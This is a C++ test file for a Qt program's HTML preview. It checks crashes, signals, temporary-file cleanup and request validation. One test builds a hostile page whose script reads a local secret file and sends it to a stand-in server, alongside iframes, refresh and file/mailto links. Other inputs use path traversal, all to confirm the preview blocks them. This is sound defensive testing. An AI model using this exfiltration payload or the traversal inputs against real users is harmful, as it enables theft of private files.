// The preview in the real program, started as a user starts it: the program
// and its preview module are copied into a fresh program folder, a set is put
// into its Popleaf folder, and a driver preloaded into the program and its
// preview process (preview_driver.cpp) opens the set, presses プレビュー, looks
// at the page and closes everything. The program loads the web engine itself, on the first
// preview, as it does for the user; a test that links the engine sets it up
// at start and hides what happens without OpenGL.

#include "reliability_support.h"

#include "core/generate/popup_page.h"
#include "ui/preview/preview_client.h"
#include "support/in_process_preview.h"
#include "support/file_compare.h"
#include "support/record_editor.h"
#include "support/recording_desktop.h"
#include "support/sample_sets.h"
#include "support/user_folders.h"

#include <QApplication>
#include <QElapsedTimer>
#include <QTimer>
#include <QWidget>

#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTcpServer>
#include <QThread>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <functional>

#include <csignal>
#include <unistd.h>

using namespace zelmora;
using namespace zelmora::test;

namespace {

QString binFolder() { return QCoreApplication::applicationDirPath() + u'/'; }

// A popup page 1 as the program writes it (the last page of a one-page set),
// with the given body attribute and text.
QByteArray pageOne(const QString &body, const QString &text)
{
    QList<QByteArray> lines;
    for (const QString &line :
         {QStringLiteral("<html>"), QStringLiteral("<head>"), QStringLiteral("<style type=\"Text/css\"><!--"),
          QStringLiteral("span#param3{font-size:12pt;family:ＭＳゴシック;}"), QStringLiteral("--></style>"),
          QStringLiteral("<title>abc_1</title>"), QStringLiteral("<script language=\"JavaScript\"><!--"),
          QStringLiteral("function Check_E(){if((navigator.userAgent.indexOf(\"Mac\") > -1)){if(window.opener) self.close();}"),
          QStringLiteral("else {if(!window.opener.closed) self.close();}}"), QStringLiteral("// --></script>"),
          QStringLiteral("</head>"), QStringLiteral("<body ") + body + QStringLiteral(" onblur=\"Check_E()\">"),
          QStringLiteral("<table border=\"0\">"),
          QStringLiteral("<tr><td width=\"320\" height=\"120\" valign=\"top\">"),
          QStringLiteral("<span id=\"param3\">") + text + QStringLiteral("</span>"),
          QStringLiteral("</td></tr>"), QStringLiteral("<tr><td align=\"right\">"), QStringLiteral("<form>"),
          QStringLiteral("<input type=\"button\" value=\"閉じる\" onClick=\"Check_E()\">"),
          QStringLiteral("</form>"), QStringLiteral("</td></tr>"), QStringLiteral("</table>"),
          QStringLiteral("</body>"), QStringLiteral("</html>")})
        lines << sjis(line.toUtf8().constData());
    return crlfJoin(lines);
}

struct ProgramRun {
    QStringList report;
    bool previewProcessLeft = false; // 2 s after the program ended
    int exitCode = -1;
    QProcess::ExitStatus exitStatus = QProcess::CrashExit;
    QString output;
};

// What every run sees before the preview and after it.
const QString kOpened = QStringLiteral("message: ポップリーフ [ abc_1.htm ] を読み込みました。");
const QString kEditor = QStringLiteral("editor: abc");
const QString kKept = QStringLiteral("after: abc|一行目\\n二行目");
// The preview window 360 twips right of the main window and 2895 below it.
const QString kShown1 = QStringLiteral("preview: shown at +24+193");

struct ProcessCase {
    const char *name;
    // How the program is started: "offscreen" without a display, or "xvfb"
    // on a virtual X server of its own, with these variables added.
    const char *display;
    QStringList environment;
    // Changes to the fresh program folder before the run.
    std::function<void(const QString &folder)> prepare;
    QStringList report; // the driver's lines; a "*" in a line stands for any text
    bool killed = false;  // the program ends by SIGKILL
    const char *draft = nullptr; // what the draft left beside the program holds, if one is
};

void PrintTo(const ProcessCase &c, std::ostream *os) { *os << c.name; }

class WebEngineInTheProgram : public testing::TestWithParam<ProcessCase> {
protected:
    void SetUp() override
    {
        ASSERT_TRUE(dir.isValid());
        folder = dir.path() + u'/';
        for (const char *file : {"zelmora", "zelmora_preview.so"})
            ASSERT_TRUE(QFile::copy(binFolder() + QLatin1String(file), folder + QLatin1String(file))) << file;
        ASSERT_TRUE(QDir().mkpath(folder + QStringLiteral("Popleaf")));
        ASSERT_TRUE(QDir().mkpath(folder + QStringLiteral("TEMP")));
        writeFile(folder + QStringLiteral("Popleaf/abc_1.htm"),
                  pageOne(QStringLiteral("BgColor=\"#FF0000\""), QStringLiteral("一行目<BR>二行目")));
        // What others keep in the temporary folder: another program's file,
        // a second instance's preview page, a link to the user's file.
        writeFile(folder + QStringLiteral("TEMP/notes.txt"), "another program's file");
        writeFile(folder + QStringLiteral("TEMP/xyz_1.htm"), "a second instance's page");
        writeFile(folder + QStringLiteral("mine.txt"), "the user's file");
        ASSERT_TRUE(QFile::link(folder + QStringLiteral("mine.txt"), folder + QStringLiteral("TEMP/mine.htm")));
    }

    // The program gets no session bus, which it does not need: on an X server
    // without one it would start a bus daemon of its own that outlives it.
    // Its X server is started here and ends with the run, and so does every
    // process left in the run's own process group.
    ProgramRun run(const ProcessCase &c, const QStringList &driverEnvironment)
    {
        QTemporaryDir user;
        QProcessEnvironment env = userFoldersIn(user.path());
        env.insert(QStringLiteral("LD_PRELOAD"), binFolder() + QStringLiteral("preview_driver.so"));
        env.insert(QStringLiteral("ZELMORA_DRIVE_REPORT"), folder + QStringLiteral("report.txt"));
        env.insert(QStringLiteral("ZELMORA_DRIVE_OPEN"), QStringLiteral("abc_1.htm"));
        env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("offscreen"));
        QProcess xvfb;
        if (QLatin1String(c.display) == QLatin1String("xvfb")) {
            xvfb.start(QStringLiteral("Xvfb"), {QStringLiteral("-displayfd"), QStringLiteral("1"), QStringLiteral("-screen"),
                                                QStringLiteral("0"), QStringLiteral("1280x1024x24"),
                                                QStringLiteral("-nolisten"), QStringLiteral("tcp")});
            EXPECT_TRUE(xvfb.waitForReadyRead(20000)) << "Xvfb did not start";
            env.insert(QStringLiteral("DISPLAY"), u':' + QString::fromLatin1(xvfb.readAllStandardOutput().trimmed()));
            env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("xcb"));
        }
        for (const QString &pair : driverEnvironment + c.environment)
            env.insert(pair.section(u'=', 0, 0), pair.section(u'=', 1));
        QProcess program;
        program.setProcessEnvironment(env);
        program.setProcessChannelMode(QProcess::MergedChannels);
        program.setChildProcessModifier([] { ::setpgid(0, 0); });
        program.start(folder + QStringLiteral("zelmora"), QStringList{});
        const auto group = pid_t(program.processId());
        ProgramRun result;
        // A bound for a hung run only; the driver ends itself before it.
        const bool finished = program.waitForFinished(180000);
        // No preview process outlives the program, however it ended.
        QFile guest(folder + QStringLiteral("report.txt.guest"));
        const QByteArray pid = guest.open(QIODevice::ReadOnly) ? guest.readAll() : QByteArray();
        const QString stat = pid.isEmpty() ? QString() : QStringLiteral("/proc/%1/stat").arg(QString::fromLatin1(pid));
        auto running = [&stat] {
            QFile f(stat);
            return f.open(QIODevice::ReadOnly) && !f.readAll().contains(") Z ");
        };
        for (int i = 0; i < 20 && running(); ++i)
            QThread::msleep(100);
        result.previewProcessLeft = !stat.isEmpty() && running();
        if (group > 0)
            ::kill(-group, SIGKILL); // the engine's processes, or a whole hung run
        if (!finished)
            program.waitForFinished();
        xvfb.terminate();
        xvfb.waitForFinished();
        result.exitCode = program.exitCode();
        result.exitStatus = program.exitStatus();
        result.output = QString::fromLocal8Bit(program.readAll());
        QFile report(folder + QStringLiteral("report.txt"));
        if (report.open(QIODevice::ReadOnly))
            result.report = QString::fromUtf8(report.readAll()).split(u'\n', Qt::SkipEmptyParts);
        return result;
    }

    QTemporaryDir dir;
    QString folder;
};

testing::AssertionResult reportMatches(const QStringList &expected, const QStringList &actual)
{
    // Each "*" in an expected line stands for any text.
    const auto matches = [](const QString &expected, const QString &actual) {
        const QStringList parts = expected.split(u'*');
        qsizetype at = 0;
        for (qsizetype i = 0; i < parts.size(); ++i) {
            at = i == 0 ? (actual.startsWith(parts[0]) ? 0 : -1) : actual.indexOf(parts[i], at);
            if (at < 0)
                return false;
            at += parts[i].size();
        }
        return parts.size() > 1 ? (parts.last().isEmpty() || actual.endsWith(parts.last())) : actual == expected;
    };
    bool same = expected.size() == actual.size();
    for (qsizetype i = 0; same && i < expected.size(); ++i)
        same = matches(expected[i], actual[i]);
    if (same)
        return testing::AssertionSuccess();
    return testing::AssertionFailure() << "expected:\n  " << expected.join(QStringLiteral("\n  ")).toStdString()
                                       << "\nseen:\n  " << actual.join(QStringLiteral("\n  ")).toStdString();
}

} // namespace

// The program survives the preview, shows the page where it can, and keeps
// the editor; closing the preview leaves everything in TEMP it did not write.
TEST_P(WebEngineInTheProgram, previewShownOrRefused_programAndEditorKept)
{
    const ProcessCase &c = GetParam();
    if (c.prepare)
        c.prepare(folder);
    const auto before = folderTree(dir.path());

    const ProgramRun result = run(c, {QStringLiteral("ZELMORA_DRIVE_COLOUR=#ff0000")});

    EXPECT_EQ(result.exitStatus, c.killed ? QProcess::CrashExit : QProcess::NormalExit) << result.output.toStdString();
    if (!c.killed)
        EXPECT_EQ(result.exitCode, 0) << result.output.toStdString();
    EXPECT_FALSE(result.previewProcessLeft);
    // On X11 the preview is transient for the main window and modal to it, as
    // the X server holds it for the window manager, and drawn with
    // GL unless the row takes GL away.
    QStringList expected = c.report;
    if (QLatin1String(c.display) == QLatin1String("xvfb")) {
        expected.replaceInStrings(QStringLiteral("preview: shown"), QStringLiteral("preview: shown modal over the main window"));
        if (c.environment.filter(QStringLiteral("GL")).isEmpty())
            expected.replaceInStrings(QStringLiteral("loaded: ok"), QStringLiteral("loaded: ok, drawn with GL"));
    }
    EXPECT_TRUE(reportMatches(expected, result.report)) << result.output.toStdString();
    QStringList changed = changedPaths(before, folderTree(dir.path()));
    changed.removeAll(QStringLiteral("report.txt"));
    changed.removeAll(QStringLiteral("report.txt.guest"));
    if (c.killed) { // a killed program deletes nothing, its draft's lock file neither
        changed.removeAll(QStringLiteral("TEMP/abc_1.htm"));
        changed.removeAll(QStringLiteral("Zelmora.1.lock"));
    }
    if (c.draft) // the set changed in the editor is kept in the draft, however the program ended
        EXPECT_TRUE(changed.removeAll(QStringLiteral("Zelmora.1.draft")) == 1
                    && readAll(folder + QStringLiteral("Zelmora.1.draft")).contains(c.draft));
    EXPECT_EQ(changed, QStringList{}) << "the preview left or removed files";
}

namespace {

const QStringList kPage{QStringLiteral("loaded: ok"), QStringLiteral("title: abc_1"), QStringLiteral("colour: #ff0000")};
// The main window takes no typing while the preview shows.
const QStringList kOpen = QStringList{kOpened, kEditor, kShown1, QStringLiteral("input: none")} + kPage;
const QStringList kShown = kOpen + QStringList{kKept};
const QString kAgain = QStringLiteral("preview: shown again by the same process");
QString failed(const char *reason) { return QStringLiteral("message: プレビューを表示できませんでした。\\n理由: ") + QString::fromUtf8(reason); }
// The preview process stopped (SIGSTOP) and the main window's close box
// pressed: the wait cursor shows until the window is up.
QStringList stoppedAndClosed(const char *cursor)
{
    return {QStringLiteral("preview: stopping"), QStringLiteral("cursor: ") + QLatin1String(cursor), QStringLiteral("back: within 2 s"),
            failed("閉じるように求めても、プレビューのプロセスが応答しませんでした。"), kKept};
}
// The title abd typed over the set's before the preview, which a signal ends.
const QStringList kRetitled{kOpened, QStringLiteral("editor: abd"), kShown1, QStringLiteral("input: none"),
                            QStringLiteral("loaded: ok"), QStringLiteral("title: abd_1"), QStringLiteral("colour: #ff0000")};

} // namespace

INSTANTIATE_TEST_SUITE_P(
    Displays, WebEngineInTheProgram,
    testing::Values(
        ProcessCase{"offscreenWithoutADisplay", "offscreen", {}, {}, kShown},
        ProcessCase{"xcbWithoutGlIntegration", "xvfb", {QStringLiteral("QT_XCB_GL_INTEGRATION=none")}, {}, kShown},
        ProcessCase{"xcbWithoutAGlDriver", "xvfb",
                    {QStringLiteral("LIBGL_DRIVERS_PATH=/nonexistent"), QStringLiteral("GALLIUM_DRIVER=none")},
                    {}, kShown},
        ProcessCase{"xcbWithGl", "xvfb", {}, {}, kShown},
        ProcessCase{"roadsAndASecondPreviewInTheWarmProcess", "offscreen",
                    {QStringLiteral("ZELMORA_DRIVE_STEPS=frd,frd,bak,bak"),
                     QStringLiteral("ZELMORA_DRIVE_ROUNDS=button,escape,closebox")},
                    [](const QString &folder) { // a two-page set
                        for (int k : {1, 2}) {
                            PopupPage page{QStringLiteral("abc"), k, QStringLiteral(".htm"), k == 1};
                            page.body = QStringLiteral("BgColor=\"#FF0000\"");
                            page.text = k == 1 ? QStringLiteral("一行目<BR>二行目") : QStringLiteral("二ページ目");
                            ASSERT_FALSE(writePopupPage(folder + QStringLiteral("Popleaf/"), page));
                        }
                    },
                    QStringList{QStringLiteral("message: ポップリーフ [ abc_1.htm ] ～ [ abc_2.htm ] を読み込みました。")}
                        + kOpen.mid(1) + QStringList{QStringLiteral("step: abc_2 shows abc_2"), QStringLiteral("step: abc_2 shows abc_2"),
                                        QStringLiteral("step: abc_1 shows abc_1"), QStringLiteral("step: abc_1 shows abc_1"), kAgain}
                        + kPage + QStringList{kAgain} + kPage + QStringList{kKept}},
        ProcessCase{"previewProcessKilled", "xvfb", {QStringLiteral("ZELMORA_DRIVE_ROUNDS=kill")}, {},
                    kOpen + QStringList{failed("プレビューのプロセスが異常終了しました。"), kKept}},
        ProcessCase{"pageProcessCrashed", "offscreen", {QStringLiteral("ZELMORA_DRIVE_ROUNDS=crashpage")}, {},
                    kOpen + QStringList{failed("ページを表示するプロセスが異常終了しました。"), kKept}},
        ProcessCase{"previewProcessCannotStart", "offscreen", {QStringLiteral("ZELMORA_DRIVE_UNSTARTABLE=1")}, {},
                    {kOpened, kEditor, failed("プレビューのプロセスを起動できませんでした。\\n*"), kKept}},
        ProcessCase{"moduleCannotBeLoaded", "offscreen", {},
                    [](const QString &folder) {
                        writeFile(folder + QStringLiteral("zelmora_preview.so"), "not a library");
                    },
                    {kOpened, kEditor, failed("プレビュー機能を読み込めませんでした。\\n*zelmora_preview*"), kKept}},
        ProcessCase{"emptyTitle", "offscreen", {QStringLiteral("ZELMORA_DRIVE_TITLE=")}, {},
                    {kOpened, QStringLiteral("editor: "), kShown1, QStringLiteral("input: none"), QStringLiteral("loaded: ok"),
                     QStringLiteral("title: _1"), QStringLiteral("colour: #ff0000"), QStringLiteral("after: |一行目\\n二行目")},
                    false, "一行目"},
        ProcessCase{"previewProcessStoppedBeforeShown_closeBox", "offscreen", {QStringLiteral("ZELMORA_DRIVE_ROUNDS=stopbefore")}, {},
                    QStringList{kOpened, kEditor} + stoppedAndClosed("wait")},
        ProcessCase{"previewProcessStoppedAfterShown_closeBox", "xvfb", {QStringLiteral("ZELMORA_DRIVE_ROUNDS=stop")}, {},
                    kOpen + stoppedAndClosed("normal")},
        ProcessCase{"sigtermDuringThePreview", "offscreen",
                    {QStringLiteral("ZELMORA_DRIVE_ROUNDS=sigterm"), QStringLiteral("ZELMORA_DRIVE_TITLE=abd")}, {}, kRetitled, false, "abd"},
        ProcessCase{"sigintDuringThePreview", "offscreen",
                    {QStringLiteral("ZELMORA_DRIVE_ROUNDS=sigint"), QStringLiteral("ZELMORA_DRIVE_TITLE=abd")}, {}, kRetitled, false, "abd"},
        ProcessCase{"programKilledWithAStoppedPreviewProcess", "offscreen", {QStringLiteral("ZELMORA_DRIVE_ROUNDS=stopkill")}, {},
                    kOpen + QStringList{QStringLiteral("preview: stopping"), QStringLiteral("cursor: normal")}, true},
        ProcessCase{"temporaryFolderIsALink", "offscreen", {},
                    [](const QString &folder) {
                        ASSERT_TRUE(QDir(folder).rename(QStringLiteral("TEMP"), QStringLiteral("elsewhere")));
                        ASSERT_TRUE(QFile::link(folder + QStringLiteral("elsewhere"), folder + QStringLiteral("TEMP")));
                    },
                    {kOpened, kEditor, QStringLiteral("message: プレビュー用の一時フォルダを使えません。\\n*"),
                     kKept}}),
    [](const testing::TestParamInfo<ProcessCase> &info) { return std::string(info.param.name); });

// A set on disk whose page text carries scripts, a refresh, remote and local
// loads and two links. Nothing runs, nothing is read or sent, only the link
// the user clicks reaches the system browser, and the background picture
// from ../Popleaf/ still shows.
TEST_F(WebEngineInTheProgram, hostileSet_nothingRunsOrLeaks_onlyTheClickedLinkLeaves)
{
    QTcpServer server; // stands in for the network: it must hear nothing
    ASSERT_TRUE(server.listen(QHostAddress::LocalHost));
    const QString net = QStringLiteral("http://127.0.0.1:%1").arg(server.serverPort());
    writeFile(folder + QStringLiteral("secret.txt"), "the user's secret");
    EXPECT_TRUE(markUnread(folder + QStringLiteral("secret.txt"))) << "this file system records no reads";
    writeFile(folder + QStringLiteral("Popleaf/x.js"),
              QStringLiteral("var r=new XMLHttpRequest();r.open('GET','../secret.txt',false);r.send();"
                             "location='%1/?d='+encodeURIComponent(r.responseText);window.open('%1/w');")
                  .arg(net)
                  .toUtf8());
    // A green picture: the background the page is drawn with when it loads.
    writeFile(folder + QStringLiteral("Popleaf/back.gif"),
              QByteArray::fromHex("47494638396101000100800000" "00ff00" "ffffff"
                                  "2c00000000010001000002024401003b"));
    const QString text =
        QStringLiteral("<script src=\"../Popleaf/x.js\"></script>"
                       "<a id=q href=\"https://example.invalid/auto\">a</a><script>q.click();document.title='ran';"
                       "location='%1/s'</script>"
                       "<meta http-equiv=\"refresh\" content=\"0;url=https://example.invalid/refresh\">"
                       "<img src=\"%1/img.gif\" width=4 height=4><link rel=stylesheet href=\"%1/s.css\">"
                       "<iframe src=\"../secret.txt\" width=4 height=4></iframe>"
                       "<iframe src=\"%1/frame\" width=4 height=4></iframe>"
                       "<a href=\"file://%2secret.txt\" style=\"position:absolute;left:0;top:0;width:160px;height:60px\">f</a>"
                       "<a href=\"https://example.invalid/clicked\" "
                       "style=\"position:absolute;left:160px;top:0;width:160px;height:60px\">c</a>"
                       "<a href=\"mailto:a@b?subject=hi&attach=%2secret.txt&attachment=file://%2secret.txt\" "
                       "style=\"position:absolute;left:0;top:60px;width:160px;height:40px\">m</a>")
            .arg(net, folder);
    writeFile(folder + QStringLiteral("Popleaf/abc_1.htm"), pageOne(QStringLiteral("BackGround=\"back.gif\""), text));

    // The https link, the mailto link, then the file link. The engine hands
    // the three clicks' results over in either order, so they are compared
    // as a set; anything the page sent to the desktop by itself would be a
    // line more.
    const ProgramRun result = run({"hostile", "offscreen", {}, {}, {}},
                           {QStringLiteral("ZELMORA_DRIVE_COLOUR=#00ff00"), QStringLiteral("ZELMORA_DRIVE_URLS=2"),
                            QStringLiteral("ZELMORA_DRIVE_MESSAGES=1"),
                            QStringLiteral("ZELMORA_DRIVE_CLICKS=240,30;80,80;80,30")});

    EXPECT_EQ(result.exitStatus, QProcess::NormalExit) << result.output.toStdString();
    EXPECT_EQ(result.exitCode, 0) << result.output.toStdString();
    const auto clicksSorted = [](QStringList lines) {
        if (lines.size() >= 10)
            std::sort(lines.begin() + 7, lines.begin() + 10);
        return lines;
    };
    EXPECT_TRUE(reportMatches(clicksSorted({kOpened, kEditor, kShown1, QStringLiteral("input: none"), QStringLiteral("loaded: ok"),
                               QStringLiteral("title: abc_1"), QStringLiteral("colour: #00ff00"),
                               QStringLiteral("url: https://example.invalid/clicked"),
                               QStringLiteral("url: mailto:a@b?subject=hi"),
                               QStringLiteral("message: このリンクはプレビューから開けません。\\n開けるのは http、https と mailto "
                                              "のリンクだけです。\\nfile://") + folder + QStringLiteral("secret.txt"),
                               QStringLiteral("after: abc|*")}),
                              clicksSorted(result.report)))
        << result.output.toStdString();
    EXPECT_FALSE(readSinceMarked(folder + QStringLiteral("secret.txt"))) << "the page read a file outside its folders";
    server.waitForNewConnection(0);
    EXPECT_FALSE(server.hasPendingConnections()) << "the page reached the network";
    EXPECT_EQ(entryNames(folder + QStringLiteral("TEMP")), (QStringList{"mine.htm", "notes.txt", "xyz_1.htm"}));
}

namespace {

// A stand-in for the preview process: a shell script that plays one part.
struct StandInCase {
    const char *name;
    const char *script;   // run by sh after the request has been read into $r
    bool closeBoxOnShown; // the user presses the main window's close box once it shows
    const char *message;  // the start of the one message, or nullptr for none
    bool again = false;   // a second preview at once, before the first guest is reaped
};

void PrintTo(const StandInCase &c, std::ostream *os) { *os << c.name; }

class PreviewClientAgainstAStandIn : public testing::TestWithParam<StandInCase> {};

} // namespace

// Whatever the preview process does, the main window comes back within the
// deadline and the grace, the set is intact, the pages are gone and the
// user reads one message where something failed.
TEST_P(PreviewClientAgainstAStandIn, mainWindowBackInBoundedTime_setKept_pagesDeleted_oneMessage)
{
    const StandInCase &c = GetParam();
    QTemporaryDir dir;
    const ProgramPaths paths = initPortablePaths(dir.path());
    RecordEditor editor(sampleSet(QString()));
    const PageSet before = editor.pageSet();
    EditorState state;
    RecordingDesktop desktop;
    QWidget mainWindow;
    const PreviewClient::Times times{2000, 1000, 30000};
    PreviewClient client(&mainWindow, QStringLiteral("/bin/sh"),
                         {QStringLiteral("-c"), QStringLiteral("read -r r; ") + QString::fromLatin1(c.script)}, times);
    QObject::connect(&client, &PreviewClient::shown, &mainWindow, [&] {
        EXPECT_FALSE(mainWindow.isEnabled());
        EXPECT_EQ(QApplication::overrideCursor(), nullptr); // the wait cursor goes once the window shows
        if (c.closeBoxOnShown)
            QTimer::singleShot(0, &mainWindow, [&] { mainWindow.close(); });
    });
    QElapsedTimer elapsed;
    elapsed.start();

    runPreviewCommand(editor, state, paths, desktop, client);
    if (c.again)
        runPreviewCommand(editor, state, paths, desktop, client);

    EXPECT_LT(elapsed.elapsed(), times.showDeadlineMs + times.closeGraceMs + 1000);
    EXPECT_TRUE(mainWindow.isEnabled());
    EXPECT_EQ(QApplication::overrideCursor(), nullptr);
    EXPECT_EQ(editor.pageSet(), before);
    EXPECT_EQ(entryNames(paths.previewFolder), QStringList{});
    QStringList messages;
    for (const auto &call : desktop.calls)
        messages << call.text;
    if (c.message) {
        ASSERT_EQ(messages.size(), 1) << messages.join(u'|').toStdString();
        EXPECT_TRUE(messages[0].startsWith(QStringLiteral("プレビューを表示できませんでした。\n理由: ")
                                           + QString::fromUtf8(c.message)))
            << messages[0].toStdString();
    } else {
        EXPECT_EQ(messages, QStringList{});
    }
}

INSTANTIATE_TEST_SUITE_P(
    Parts, PreviewClientAgainstAStandIn,
    testing::Values(
        StandInCase{"answersNormally", "echo '{\"type\":\"shown\"}'; sleep 0.2; echo '{\"type\":\"closed\"}'; cat", false, nullptr},
        StandInCase{"shownLongerThanTheDeadline", "echo '{\"type\":\"shown\"}'; sleep 2.5; echo '{\"type\":\"closed\"}'; cat", false, nullptr},
        StandInCase{"sendsEachLineInPieces",
                    "printf '{\"type\":'; sleep 0.3; printf '\"shown\"}\\n{\"ty'; sleep 0.3; printf 'pe\":\"closed\"}\\n'; cat",
                    false, nullptr},
        StandInCase{"closesWhenAsked", "echo '{\"type\":\"shown\"}'; read -r c; case $c in *close*) echo '{\"type\":\"closed\"}';; esac; cat",
                    true, nullptr},
        StandInCase{"refusesTheRequest", "echo '{\"type\":\"failed\",\"reason\":\"no\"}'; cat", false, "no"},
        StandInCase{"neverAnswers", "cat", false, "プレビューのプロセスが応答しないまま、待てる時間を過ぎました。"},
        StandInCase{"answersGarbage_nextPreviewInAFreshOne", // started again, it answers normally
                    "f=${r#*folder???}; m=${f%%TEMP/*}again; if [ -e $m ]; then echo '{\"type\":\"shown\"}'; "
                    "sleep 0.2; echo '{\"type\":\"closed\"}'; else touch $m; echo garbage; fi; cat",
                    false, "プレビューのプロセスから読み取れない応答がありました。", true},
        StandInCase{"sendsALineWithoutItsEndAndExits", "printf '{\"type\":\"shown\"}'", false,
                    "プレビューのプロセスが、答えないまま終了しました。"},
        StandInCase{"exitsWithAnEngineError", "echo '[1:1:1208/0.1:ERROR:zygote.cc(1)] Running as root without --no-sandbox' >&2; exit 1",
                    false, "プレビューのプロセスが終了しました (終了コード 1)。\nRunning as root without --no-sandbox"},
        StandInCase{"stopsItself", "kill -STOP $$", false, "プレビューのプロセスが応答しないまま、待てる時間を過ぎました。"},
        StandInCase{"diesAfterShown", "echo '{\"type\":\"shown\"}'; sleep 0.2; kill -KILL $$", false,
                    "プレビューのプロセスが異常終了しました。"},
        StandInCase{"stopsAfterShown_closeBox", "echo '{\"type\":\"shown\"}'; kill -STOP $$", true,
                    "閉じるように求めても、プレビューのプロセスが応答しませんでした。"}),
    [](const testing::TestParamInfo<StandInCase> &info) { return std::string(info.param.name); });

// The preview process started by hand: each line it cannot read or take is
// answered "failed" with the reason, and nothing is shown.
TEST(PreviewProcessByHand, refusesEachRequestItCannotTake_withTheReason)
{
    QTemporaryDir dir;
    const QString temp = dir.path() + QStringLiteral("/TEMP/");
    ASSERT_TRUE(QDir().mkpath(temp) && QDir().mkpath(dir.path() + QStringLiteral("/Popleaf")));
    ASSERT_TRUE(QDir().mkpath(dir.path() + QStringLiteral("/other/TEMP")));
    const auto show = [](const QString &folder, const QString &title, int last = 1, const char *extension = ".htm") {
        PreviewRequest r;
        std::tie(r.folder, r.title, r.lastPage, r.extension) = std::tuple(folder, title, last, QString::fromLatin1(extension));
        return r.toLine();
    };
    // A parent window id that no X11 window can have.
    const auto parent = [&](const char *id) { return show(temp, QStringLiteral("abc")).replace("\"parent\":0", "\"parent\":" + QByteArray(id)); };
    const struct { QByteArray line; const char *reason; } cases[] = {
        {"not json\n", "プレビューの要求を読み取れませんでした。"},
        {"{\"type\":\"open\"}\n", "プレビューの要求を読み取れませんでした。"},
        {show(dir.path() + QStringLiteral("/other/TEMP/"), QStringLiteral("abc")), "プレビュー用の一時フォルダではありません: "},
        {show(dir.path() + QStringLiteral("/Popleaf/"), QStringLiteral("abc")), "プレビュー用の一時フォルダではありません: "},
        {show(temp + QStringLiteral("../TEMP/"), QStringLiteral("abc")), "プレビュー用の一時フォルダではありません: "},
        {show(temp, QStringLiteral("../../secret")), "タイトルにフォルダの区切りがあります: "},
        {show(temp, QStringLiteral("abc"), 0), "ページ数が 1 から 6 の範囲にありません: 0"},
        {show(temp, QStringLiteral("abc"), 7), "ページ数が 1 から 6 の範囲にありません: 7"},
        {show(temp, QStringLiteral("abc"), 1, ".html"), "拡張子が .htm ではありません: "},
        {parent("-1"), "親ウィンドウの番号が正しくありません。"},
        {parent("4294967296"), "親ウィンドウの番号が正しくありません。"},
        {parent("1.5"), "親ウィンドウの番号が正しくありません。"},
        {parent("\"4194311\""), "親ウィンドウの番号が正しくありません。"},
    };
    QProcess guest;
    guest.start(binFolder() + QStringLiteral("zelmora"), {QStringLiteral("--preview-guest")});
    ASSERT_TRUE(guest.waitForStarted());
    guest.write(PreviewRequest{PreviewRequest::Kind::Close}.toLine()); // no window: no answer
    for (const auto &c : cases) {
        guest.write(c.line);
        QByteArray answer;
        while (!answer.endsWith('\n') && guest.waitForReadyRead(10000))
            answer += guest.readLine();
        const auto a = PreviewAnswer::fromLine(answer);
        ASSERT_TRUE(a && a->kind == PreviewAnswer::Kind::Failed) << c.line.toStdString() << " answered " << answer.toStdString();
        EXPECT_TRUE(a->reason.contains(QString::fromUtf8(c.reason))) << a->reason.toStdString();
    }
    guest.closeWriteChannel(); // the program has gone: the guest ends
    EXPECT_TRUE(guest.waitForFinished(10000));
    EXPECT_EQ(guest.exitCode(), 0);
}
